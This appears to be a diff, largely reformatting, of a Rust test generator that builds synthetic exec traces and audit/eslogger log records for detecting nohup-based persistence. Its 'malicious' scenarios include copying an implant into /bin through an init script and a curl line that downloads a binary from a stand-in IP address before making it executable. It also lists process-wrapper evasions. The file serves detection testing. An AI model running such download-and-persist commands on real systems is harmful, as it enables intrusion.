@@ -303,15 +303,16 @@ const SHAPES: [Shape; 4] = [
 const MAX_EXECVE_AUDIT_LEN: usize = 7500;
 
 fn hex(b: &[u8]) -> String {
-    b.iter().fold(String::with_capacity(b.len() * 2), |mut s, c| {
-        let _ = write!(s, "{c:02X}");
-        s
-    })
+    b.iter()
+        .fold(String::with_capacity(b.len() * 2), |mut s, c| {
+            let _ = write!(s, "{c:02X}");
+            s
+        })
 }
 
 /// The kernel hex-encodes an argument with a byte below 0x21, above 0x7e, or `"`.
 fn needs_hex(s: &str) -> bool {
-    s.bytes().any(|b| b < 0x21 || b > 0x7e || b == b'"')
+    s.bytes().any(|b| !(0x21..=0x7e).contains(&b) || b == b'"')
 }
 
 /// `a0="x" a1=6162 a2_len=N a2[0]=… …`: the EXECVE record(s) of one exec, split the
@@ -352,14 +353,7 @@ fn render(shape: Shape, trace: &Trace) -> String {
     let mut lines: Vec<(i64, String)> = Vec::new();
     for e in &trace.execs {
         serial += 1;
-        let comm: String = e
-            .exe
-            .rsplit('/')
-            .next()
-            .unwrap()
-            .chars()
-            .take(15)
-            .collect();
+        let comm: String = e.exe.rsplit('/').next().unwrap().chars().take(15).collect();
         let text = match shape {
             Shape::AuditRaw | Shape::AuditEnriched => {
                 let enriched = shape == Shape::AuditEnriched;
@@ -419,9 +413,7 @@ fn render(shape: Shape, trace: &Trace) -> String {
                 )
             }
             Shape::Eslogger => {
-                let token = |pid: u32, ver: u64| {
-                    serde_json::json!({"auid": 501, "euid": e.uid, "ruid": e.uid, "egid": 20, "rgid": 20, "pid": pid, "asid": e.session, "pidversion": ver})
-                };
+                let token = |pid: u32, ver: u64| serde_json::json!({"auid": 501, "euid": e.uid, "ruid": e.uid, "egid": 20, "rgid": 20, "pid": pid, "asid": e.session, "pidversion": ver});
                 let v = serde_json::json!({
                     "schema_version": 1, "version": 9, "event_type": 9, "action_type": 1,
                     "time": iso(e.time_ms), "seq_num": serial, "global_seq_num": serial,
@@ -640,7 +632,11 @@ fn malicious() -> Vec<Scenario> {
         sc(
             "13 UNC3886: implant copied into /bin, started by an init script",
             n,
-            nohup(Cmd::leaf(&["/bin/support"])).parent(&["/bin/sh", "/etc/init.d/localnet", "start"]),
+            nohup(Cmd::leaf(&["/bin/support"])).parent(&[
+                "/bin/sh",
+                "/etc/init.d/localnet",
+                "start",
+            ]),
             vec![vec!["cp", "/tmp/support", "/bin/support"]],
             None,
         ),
@@ -674,7 +670,12 @@ fn malicious() -> Vec<Scenario> {
             n,
             nohup(Cmd::leaf(&["/usr/local/bin/dbus-helper"])),
             vec![
-                vec!["curl", "-fsSLo", "/usr/local/bin/dbus-helper", "http://203.0.113.7/d"],
+                vec![
+                    "curl",
+                    "-fsSLo",
+                    "/usr/local/bin/dbus-helper",
+                    "http://203.0.113.7/d",
+                ],
                 vec!["chmod", "755", "/usr/local/bin/dbus-helper"],
             ],
             None,
@@ -774,14 +775,22 @@ fn benign() -> Vec<Scenario> {
         sc(
             "b5 vendor init script starts its daemon",
             "/",
-            nohup(Cmd::leaf(&["/usr/sbin/vendor-agentd", "--daemon"]))
-                .parent(&["/bin/sh", "/etc/init.d/vendor-agent", "start"]),
+            nohup(Cmd::leaf(&["/usr/sbin/vendor-agentd", "--daemon"])).parent(&[
+                "/bin/sh",
+                "/etc/init.d/vendor-agent",
+                "start",
+            ]),
             vec![],
         ),
         sc(
             "b6 rsync backup",
             "/home/alice",
-            nohup(Cmd::leaf(&["rsync", "-a", "/srv/data/", "/mnt/backup/data/"])),
+            nohup(Cmd::leaf(&[
+                "rsync",
+                "-a",
+                "/srv/data/",
+                "/mnt/backup/data/",
+            ])),
             vec![],
         ),
         sc(
@@ -838,14 +847,28 @@ type Rewrite = fn(Cmd) -> Cmd;
 /// Wrappers in front of a command (point 2), each with the process shape it has.
 fn outer_wrappers() -> Vec<(&'static str, Rewrite)> {
     vec![
-        ("env", |c| c.argv_wrap(&["env", "LANG=C"], &[], How::InPlace)),
-        ("nice", |c| c.argv_wrap(&["nice", "-n", "19"], &[], How::InPlace)),
-        ("stdbuf", |c| c.argv_wrap(&["stdbuf", "-oL"], &[], How::InPlace)),
-        ("ionice", |c| c.argv_wrap(&["ionice", "-c", "3"], &[], How::InPlace)),
-        ("timeout", |c| c.argv_wrap(&["timeout", "3600"], &[], How::Child)),
-        ("setsid -f", |c| c.argv_wrap(&["setsid", "-f"], &[], How::Child)),
+        ("env", |c| {
+            c.argv_wrap(&["env", "LANG=C"], &[], How::InPlace)
+        }),
+        ("nice", |c| {
+            c.argv_wrap(&["nice", "-n", "19"], &[], How::InPlace)
+        }),
+        ("stdbuf", |c| {
+            c.argv_wrap(&["stdbuf", "-oL"], &[], How::InPlace)
+        }),
+        ("ionice", |c| {
+            c.argv_wrap(&["ionice", "-c", "3"], &[], How::InPlace)
+        }),
+        ("timeout", |c| {
+            c.argv_wrap(&["timeout", "3600"], &[], How::Child)
+        }),
+        ("setsid -f", |c| {
+            c.argv_wrap(&["setsid", "-f"], &[], How::Child)
+        }),
         ("sudo -b", |c| c.argv_wrap(&["sudo", "-b"], &[], How::Child)),
-        ("sudo -u", |c| c.argv_wrap(&["sudo", "-u", "root", "-E"], &[], How::Child)),
+        ("sudo -u", |c| {
+            c.argv_wrap(&["sudo", "-u", "root", "-E"], &[], How::Child)
+        }),
         ("runuser --", |c| {
             c.argv_wrap(&["runuser", "-u", "root", "--"], &[], How::Child)
         }),
@@ -855,15 +878,35 @@ fn outer_wrappers() -> Vec<(&'static str, Rewrite)> {
         ("flock -c", |c| {
             c.text_wrap(&["flock", "/run/lock/job.lock", "-c"], "", "", How::Child)
         }),
-        ("xargs", |c| c.argv_wrap(&["xargs", "-r", "-0"], &[], How::Child)),
-        ("find -exec", |c| {
-            c.argv_wrap(&["find", "/etc/hostname", "-maxdepth", "0", "-exec"], &[";"], How::Child)
+        ("xargs", |c| {
+            c.argv_wrap(&["xargs", "-r", "-0"], &[], How::Child)
         }),
-        ("chroot", |c| c.argv_wrap(&["chroot", "/"], &[], How::InPlace)),
-        ("unshare", |c| c.argv_wrap(&["unshare", "-m", "--propagation", "private"], &[], How::InPlace)),
-        ("nsenter", |c| c.argv_wrap(&["nsenter", "-t", "1", "-m", "-u"], &[], How::InPlace)),
+        ("find -exec", |c| {
+            c.argv_wrap(
+                &["find", "/etc/hostname", "-maxdepth", "0", "-exec"],
+                &[";"],
+                How::Child,
+            )
+        }),
+        ("chroot", |c| {
+            c.argv_wrap(&["chroot", "/"], &[], How::InPlace)
+        }),
+        ("unshare", |c| {
+            c.argv_wrap(
+                &["unshare", "-m", "--propagation", "private"],
+                &[],
+                How::InPlace,
+            )
+        }),
+        ("nsenter", |c| {
+            c.argv_wrap(&["nsenter", "-t", "1", "-m", "-u"], &[], How::InPlace)
+        }),
         ("systemd-run", |c| {
-            c.argv_wrap(&["systemd-run", "--unit", "cache-sync", "--quiet"], &[], How::Init)
+            c.argv_wrap(
+                &["systemd-run", "--unit", "cache-sync", "--quiet"],
+                &[],
+                How::Init,
+            )
         }),
         ("start-stop-daemon", |mut c| {
             // `--exec PATH -- ARGS`: the daemon's argv[0] is PATH.
@@ -884,11 +927,21 @@ fn outer_wrappers() -> Vec<(&'static str, Rewrite)> {
             c.layers.insert(0, layer(outer, How::Init));
             c
         }),
-        ("sh -c &", |c| c.text_wrap(&["sh", "-c"], "", " >/dev/null 2>&1 &", How::Child)),
-        ("bash -c", |c| c.text_wrap(&["bash", "-c"], "cd /; ", "", How::Child)),
-        ("dash -c", |c| c.text_wrap(&["dash", "-c"], "", " &", How::Child)),
-        ("zsh -c &!", |c| c.text_wrap(&["zsh", "-c"], "", " &!", How::Child)),
-        ("ksh -c disown", |c| c.text_wrap(&["ksh", "-c"], "", " & disown", How::Child)),
+        ("sh -c &", |c| {
+            c.text_wrap(&["sh", "-c"], "", " >/dev/null 2>&1 &", How::Child)
+        }),
+        ("bash -c", |c| {
+            c.text_wrap(&["bash", "-c"], "cd /; ", "", How::Child)
+        }),
+        ("dash -c", |c| {
+            c.text_wrap(&["dash", "-c"], "", " &", How::Child)
+        }),
+        ("zsh -c &!", |c| {
+            c.text_wrap(&["zsh", "-c"], "", " &!", How::Child)
+        }),
+        ("ksh -c disown", |c| {
+            c.text_wrap(&["ksh", "-c"], "", " & disown", How::Child)
+        }),
         ("busybox sh -c", |c| {
             c.text_wrap(&["busybox", "sh", "-c"], "", " &", How::Child)
         }),
@@ -918,15 +971,31 @@ fn outer_wrappers() -> Vec<(&'static str, Rewrite)> {
 /// Wrappers nohup runs (point 2: `nohup nice -n 19 X`).
 fn inner_wrappers() -> Vec<(&'static str, Rewrite)> {
     vec![
-        ("nice", |c| c.argv_wrap(&["nice", "-n", "19"], &[], How::InPlace)),
-        ("stdbuf", |c| c.argv_wrap(&["stdbuf", "-o0"], &[], How::InPlace)),
-        ("timeout", |c| c.argv_wrap(&["timeout", "-s", "KILL", "86400"], &[], How::Child)),
+        ("nice", |c| {
+            c.argv_wrap(&["nice", "-n", "19"], &[], How::InPlace)
+        }),
+        ("stdbuf", |c| {
+            c.argv_wrap(&["stdbuf", "-o0"], &[], How::InPlace)
+        }),
+        ("timeout", |c| {
+            c.argv_wrap(&["timeout", "-s", "KILL", "86400"], &[], How::Child)
+        }),
         ("setsid", |c| c.argv_wrap(&["setsid"], &[], How::InPlace)),
-        ("env", |c| c.argv_wrap(&["env", "-i", "PATH=/usr/bin"], &[], How::InPlace)),
-        ("ionice", |c| c.argv_wrap(&["ionice", "-c3"], &[], How::InPlace)),
-        ("taskset", |c| c.argv_wrap(&["taskset", "-c", "0"], &[], How::InPlace)),
-        ("chrt", |c| c.argv_wrap(&["chrt", "-i", "0"], &[], How::InPlace)),
-        ("sh -c", |c| c.text_wrap(&["sh", "-c"], "exec ", "", How::InPlace)),
+        ("env", |c| {
+            c.argv_wrap(&["env", "-i", "PATH=/usr/bin"], &[], How::InPlace)
+        }),
+        ("ionice", |c| {
+            c.argv_wrap(&["ionice", "-c3"], &[], How::InPlace)
+        }),
+        ("taskset", |c| {
+            c.argv_wrap(&["taskset", "-c", "0"], &[], How::InPlace)
+        }),
+        ("chrt", |c| {
+            c.argv_wrap(&["chrt", "-i", "0"], &[], How::InPlace)
+        }),
+        ("sh -c", |c| {
+            c.text_wrap(&["sh", "-c"], "exec ", "", How::InPlace)
+        }),
     ]
 }
 
@@ -939,13 +1008,18 @@ fn under_nohup(mut c: Cmd, rewrite: Rewrite) -> Option<Cmd> {
     let wrapped = rewrite(below);
     let nohup_layer = &mut c.layers[i];
     nohup_layer.argv.truncate(1);
-    nohup_layer.argv.extend(wrapped.layers[0].argv.iter().cloned());
+    nohup_layer
+        .argv
+        .extend(wrapped.layers[0].argv.iter().cloned());
     c.layers.extend(wrapped.layers);
     Some(c)
 }
 
+/// A change of the nohup layer (another name, another image).
+type Rename = fn(&mut Layer);
+
 /// nohup under another name (point 1).
-fn nohup_forms() -> Vec<(&'static str, fn(&mut Layer))> {
+fn nohup_forms() -> Vec<(&'static str, Rename)> {
     vec![
         ("/usr/bin/nohup", |l| l.argv[0] = "/usr/bin/nohup".into()),
         ("busybox nohup", |l| {
@@ -1066,7 +1140,8 @@ fn variants(s: &Scenario) -> Vec<Variant> {
             form(&mut c.layers[i]);
             let mut var = v(format!("nohup as {name}"), c);
             if name.starts_with("copy") {
-                var.prep.push(words(&["cp", "/usr/bin/nohup", "/var/tmp/hup"]));
+                var.prep
+                    .push(words(&["cp", "/usr/bin/nohup", "/var/tmp/hup"]));
             }
             out.push(var);
         }
@@ -1204,7 +1279,8 @@ fn every_shape_reads_back_as_the_generated_execs() {
         assert_eq!(nohup.len(), 1, "{shape:?}: {found:#?}");
         assert_eq!(nohup[0].nohup_target, "/tmp/x", "{shape:?}");
         assert!(
-            nohup[0].command_line.contains("\"q\"") && nohup[0].command_line.contains(&"B".repeat(8000)),
+            nohup[0].command_line.contains("\"q\"")
+                && nohup[0].command_line.contains(&"B".repeat(8000)),
             "{shape:?}: command line not kept whole: {:?}",
             &nohup[0].command_line[..80.min(nohup[0].command_line.len())]
         );
